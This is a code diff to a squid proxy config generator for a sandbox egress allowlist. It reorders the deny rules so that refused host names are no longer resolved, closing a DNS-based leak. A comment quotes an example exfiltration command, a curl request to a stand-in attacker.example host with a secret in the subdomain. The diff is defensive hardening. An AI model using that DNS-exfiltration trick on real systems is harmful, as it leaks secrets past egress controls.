@@ -18,6 +18,11 @@ function hostRegex(entry: string): string {
  *
  * - HTTPS only as CONNECT to port 443, plain HTTP only to port 80, both only to allowed names;
  *   `-n` keeps squid from matching an address by its reverse DNS name.
+ * - No name is looked up before the allowlist admitted it. `to_localhost` is a `dst` rule, which
+ *   squid decides by resolving the requested name: met first, it sent every refused name to the
+ *   resolver, so `curl -x … http://<secret>.attacker.example/` carried the secret out as a DNS
+ *   query while being refused (egress-dns.integration.test.ts). So the order is: the ports, then
+ *   refuse what is not allowed, then refuse an allowed name that resolves to this machine.
  * - Nothing is cached; one access-log line per request on stdout is the decision cordon emits.
  * - The host's own upstream proxy, when it has one, is the only way out (`never_direct`), except
  *   for the hosts its NO_PROXY names.
@@ -39,13 +44,14 @@ export function squidConfig(
     "acl CONNECT method CONNECT",
     "acl https_port port 443",
     "acl http_port port 80",
-    "http_access deny to_localhost",
     "http_access deny CONNECT !https_port",
     "http_access deny !CONNECT !http_port",
     // An empty list (a sandbox on the network only for cordon's model gateway) admits nothing.
     ...(egress.allow.length > 0
       ? [
           `acl allowed_hosts dstdom_regex -n -i ${egress.allow.map(hostRegex).join(" ")}`,
+          "http_access deny !allowed_hosts",
+          "http_access deny to_localhost",
           "http_access allow allowed_hosts",
         ]
       : []),
